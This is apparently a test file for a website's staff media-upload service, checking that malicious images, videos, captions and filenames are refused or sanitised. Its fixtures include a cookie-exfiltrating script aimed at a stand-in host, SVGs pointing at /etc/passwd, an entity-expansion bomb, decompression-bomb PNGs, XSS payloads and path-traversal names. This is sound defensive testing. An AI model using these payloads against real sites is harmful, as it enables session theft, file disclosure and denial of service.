import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { expect, test } from 'vitest';
import { UPLOADS_PATH } from '#contract/media/staff-picture-calls.ts';
import { plainPicture, startLibrary } from '../fixture.ts';
import { box, mp4, track, webm } from './video-fixture.ts';

/* Files that a stolen or careless staff account might upload. Each is refused with a sentence or made harmless. */

const { editor, root, uploadsDir } = await startLibrary();
const bytesOf = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
const joined = (...parts: (Uint8Array | string)[]) =>
  new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : part))));
const stored = async (address: string) => readFile(join(root, address.slice('/media/'.length)));
const script = '<script>fetch("//elsewhere.example/"+document.cookie)</script>';

/** A PNG that declares these sides but contains only `rows` rows. */
function png(width: number, height: number, rows: number): Uint8Array<ArrayBuffer> {
  const chunk = (type: string, body: Buffer) => {
    const head = Buffer.alloc(4);
    head.writeUInt32BE(body.length);
    const typed = Buffer.concat([Buffer.from(type), body]);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc(typed));
    return Buffer.concat([head, typed, sum]);
  };
  const sides = Buffer.alloc(13);
  sides.writeUInt32BE(width);
  sides.writeUInt32BE(height, 4);
  sides[8] = 8; // grey, 8 bits
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const pixels = deflateSync(Buffer.alloc((width + 1) * rows), { level: 9 });
  return joined(signature, chunk('IHDR', sides), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0)));
}

function crc(bytes: Buffer): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return (sum ^ 0xffffffff) >>> 0;
}

const svg = (content: string, side = '10') =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="${side}" height="${side}">${content}</svg>`;
const laughs = `<!DOCTYPE svg [<!ENTITY a0 "<path d='M0 0h9v9'/>">${Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`,
).join('')}]>${svg('&a9;')}`;
/** A ZIP file whose first entry has this name. */
function archive(name: string) {
  return bytesOf(`PK\x03\x04${'\0'.repeat(26)}${name}PK\x05\x06${'\0'.repeat(18)}`);
}
const photo = await plainPicture();
const REFUSED: Record<string, [name: string, bytes: Uint8Array<ArrayBuffer>, sentence: RegExp]> = {
  'a drawing with a script': ['a.svg', bytesOf(svg(script)), /shows nothing/],
  'the same, called a photo': ['a.jpg', bytesOf(`<?xml version="1.0"?>${svg(script)}`), /shows nothing/],
  'a drawing of the server’s files': [
    'a.svg',
    bytesOf(svg('<image href="/etc/hostname" width="9" height="9"/><use href="file:///etc/passwd#a"/>')),
    /shows nothing/,
  ],
  'a drawing with text in somebody’s font': ['a.svg', bytesOf(svg('<text y="9">Moss</text>')), /outlines/],
  'a drawing that multiplies itself': ['a.svg', bytesOf(laughs), /damaged/],
  'a drawing of a billion pixels': ['a.svg', bytesOf(svg('<path d="M0 0h9v9"/>', '99999')), /damaged/],
  'half a drawing': ['a.svg', bytesOf(svg('<path d="M0 0h9v9"/>').slice(0, 80)), /damaged/],
  'a web page, called a picture': ['a.png', bytesOf(`<!doctype html>${script}`), /Web pages/],
  'a program that begins like a GIF': ['a.gif', bytesOf(`GIF89a=1;alert(1)/*${'x'.repeat(99)}*/`), /damaged/],
  'half a PDF': ['a.pdf', bytesOf('%PDF-1.7\n'), /cut off/],
  'half an archive': ['a.zip', bytesOf('PK\x03\x04'), /cut off/],
  'an office document, called an archive': ['a.zip', archive('[Content_Types].xml'), /Office documents/],
  'an electronic book': ['a.epub', archive('mimetype'), /electronic books/],
  'a web page, called a PDF': ['a.pdf', bytesOf(`<!doctype html>${script}%PDF-1.7\n%%EOF`), /Web pages/],
  'a program': ['a.jpg', bytesOf('\x7fELF\x02\x01\x01'), /no file that the site can show/],
  nothing: ['a.jpg', new Uint8Array(), /empty/],
  'a picture of 400 megapixels in 400 kB': ['a.png', png(20_000, 20_000, 20_000), /100 megapixels/],
  'a header of 3,600 megapixels without a picture': ['a.png', png(60_000, 60_000, 0), /100 megapixels/],
  'half a photo': ['a.jpg', photo.slice(0, photo.length / 2), /damaged/],
  'a photo of a telephone': ['a.heic', joined(box('ftyp', 'heic', Buffer.alloc(4)), 'x'), /HEIC.*JPEG/],
  'a camera’s raw picture': ['a.jpg', bytesOf('II*\0\x08\0\0\0'), /TIFF/],
  'a film with a script behind it': ['a.mp4', joined(mp4(), script), /damaged/],
  'a film whose parts lie about their size': [
    'a.mp4',
    joined(mp4(), Buffer.from('ffffffff6d646174', 'hex')),
    /damaged/,
  ],
  'a film that ends too early': ['a.mp4', mp4().slice(0, 90), /damaged/],
  'a film with a track of places': ['a.mp4', mp4(track('meta')), /camera data/],
  'sound alone': ['a.mp4', joined(box('ftyp', 'isom'), box('moov', track('soun'))), /no moving picture/],
  'Matroska, called WebM': ['a.webm', webm('matroska'), /Matroska/],
  'a WebM that ends too early': ['a.webm', webm().slice(0, 60), /damaged/],
  'captions without a line': ['a.vtt', bytesOf('WEBVTT\n\nNOTE nothing'), /no line/],
  'captions with a broken time': ['a.vtt', bytesOf('WEBVTT\n\n1 --> 2\nHello'), /Line 3/],
};

test.each(Object.entries(REFUSED))('%s is refused with a sentence', async (_, [name, bytes, sentence]) => {
  const reply = await editor.take(name, bytes);
  expect([reply.status, reply.headers.get('error-code')]).toEqual([422, 'unusable-upload']);
  expect(await reply.text()).toMatch(sentence);
});

test('an animated picture is refused', async () => {
  const frame = (background: string) =>
    sharp({ create: { width: 20, height: 20, channels: 3, background } })
      .png()
      .toBuffer();
  const frames = await Promise.all([frame('#ff0000'), frame('#0000ff')]);
  const moving = await sharp(frames, { join: { animated: true } })
    .gif()
    .toBuffer();
  const reply = await editor.take('a.gif', new Uint8Array(moving));
  expect([reply.status, await reply.text()]).toEqual([422, expect.stringMatching(/Moving pictures/)]);
});

test('an SVG is drawn, so that nothing of its programs and links is stored', async () => {
  const drawing = svg(`<path d="M0 0h9v5h-9" fill="#f4efe6" onclick="alert(1)"/>${script}`);
  const { address, width, height } = await editor.taken('Title.svg', bytesOf(drawing));
  expect([address, width, height]).toEqual([expect.stringMatching(/\.webp$/), 2400, 2400]);
  const { channels, hasAlpha } = await sharp(await stored(address)).metadata();
  expect([channels, hasAlpha]).toEqual([4, true]);
  expect((await stored(address)).includes('alert')).toBe(false);
});

test('location, camera, comments and appended data of a photo do not reach the site', async () => {
  const exif = {
    IFD0: { Make: 'Secretcam', ImageDescription: script },
    IFD3: { GPSLatitude: '51/1 30/1 0/1' },
  };
  const tagged = await sharp(await plainPicture('jpeg', 90))
    .withExif(exif)
    .toBuffer();
  const polyglot = joined(new Uint8Array(tagged), script, 'PK\x03\x04 archive');
  const { address } = await editor.taken('a.jpg', polyglot);
  const kept = await stored(address);
  expect(Buffer.from(polyglot).includes('Secretcam')).toBe(true);
  for (const trace of ['Secretcam', 'script', 'archive', 'Exif']) expect(kept.includes(trace)).toBe(false);
});

test('an archive behind a PNG is cut off, and a wrong ending is corrected', async () => {
  const { address } = await editor.taken(
    'a.jpg',
    joined(await plainPicture('png', 70), 'PK\x03\x04 archive'),
  );
  expect(address).toMatch(/\.png$/);
  expect((await stored(address)).includes('archive')).toBe(false);
});

test('a film loses location, camera and unknown parts, without moving any other byte', async () => {
  const place = box('udta', box('\xa9xyz', '+51.5-0.1/'));
  const sent = mp4(place, track('soun', box('meta', 'Secretcam')), box('uuid', script));
  const taken = await editor.taken('a.mp4', sent);
  expect(taken).toMatchObject({ kind: 'video', width: 320, height: 180, bytes: sent.length });
  const kept = await stored(taken.address);
  for (const trace of ['+51.5', 'Secretcam', 'script']) expect(kept.includes(trace)).toBe(false);
  expect(kept.indexOf('frames')).toBe(Buffer.from(sent).indexOf('frames'));
});

test('a WebM loses attachments and tags, without moving any other byte', async () => {
  const taken = await editor.taken('a.webm', webm());
  expect(taken).toMatchObject({ kind: 'video', width: 320, height: 180 });
  const kept = await stored(taken.address);
  for (const trace of ['script', 'LOCATION']) expect(kept.includes(trace)).toBe(false);
  expect(kept.indexOf('frames')).toBe(Buffer.from(webm()).indexOf('frames'));
});

test('captions keep only their words and simple markup', async () => {
  const sent = `WEBVTT\n\nSTYLE\n::cue { background: url(//elsewhere.example) }\n\n1\n00:01.000 --> 00:02.500 align:start evil:1\n<v Dilys>Cold<img src=x onerror=alert(1)>, <i>isn’t</i> it?<c.${script}>\n`;
  const { address } = await editor.taken('a.vtt', new TextEncoder().encode(sent));
  expect((await stored(address)).toString()).toBe(
    'WEBVTT\n\n00:01.000 --> 00:02.500 align:start\n<v Dilys>Cold, <i>isn’t</i> it?&lt;c.fetch("//elsewhere.example/"+document.cookie)&gt;\n',
  );
});

const NAMES = [
  '../../../../etc/passwd.jpg',
  '..\\..\\boot.jpg',
  'a\0b\n.jpg',
  '.htaccess',
  `${'é'.repeat(400)}.jpg`,
  '"><b>.jpg',
  '',
];
test.each(NAMES)('a file called %j is stored in the same folder as all others', async (name) => {
  const side = 100 + NAMES.indexOf(name) * 2;
  const { address, title } = await editor.taken(name, await plainPicture('jpeg', side));
  expect(address).toMatch(/^\/media\/library\/(?:[a-z0-9]+-)*[a-z2-9]{8}\.jpg$/);
  expect(title).toMatch(/^[^/\\\0\n]{1,120}$/);
  expect(await readdir(join(root, 'library'))).toContain(address.split('/').at(-1));
});

test('a file that exceeds its announced size is refused', async () => {
  const address = (await editor.announce('a.jpg', 10)).headers.get('location') ?? '';
  const reply = await editor.patch(address, 0, new Uint8Array(5_000));
  expect(reply.status).toBeGreaterThanOrEqual(400);
  const upload = address.slice(UPLOADS_PATH.length + 1);
  expect((await editor.send('POST', '/api/staff/pictures', { upload })).status).toBe(404);
});

test('an upload of unknown length is refused', async () => {
  const reply = await editor.request('POST', UPLOADS_PATH, { 'upload-defer-length': '1' });
  expect(reply.status).toBe(400);
});

test.each([
  ['a.jpg', 60 * 1024 ** 2],
  ['a.vtt', 2 * 1024 ** 2],
  ['a.mp4', 3 * 1024 ** 3],
])('%s of %i bytes is refused before anything is sent', async (name, size) => {
  expect((await editor.announce(name, size)).status).toBe(413);
});

test('an interrupted upload resumes where it stopped; until complete it is not imported', async () => {
  const bytes = await plainPicture('jpeg', 240);
  const address = (await editor.announce('a.jpg', bytes.length)).headers.get('location') ?? '';
  const upload = address.slice(UPLOADS_PATH.length + 1);
  await editor.patch(address, 0, bytes.slice(0, 100));
  expect((await editor.send('POST', '/api/staff/pictures', { upload })).status).toBe(404);
  expect((await editor.patch(address, 0, bytes)).status).toBe(409);
  expect((await editor.request('HEAD', address)).headers.get('upload-offset')).toBe('100');
  expect((await editor.patch(address, 100, bytes.slice(100))).status).toBe(204);
  expect((await editor.takeUpload(upload)).status).toBe(201);
  expect(await readdir(uploadsDir)).not.toContain(upload);
});
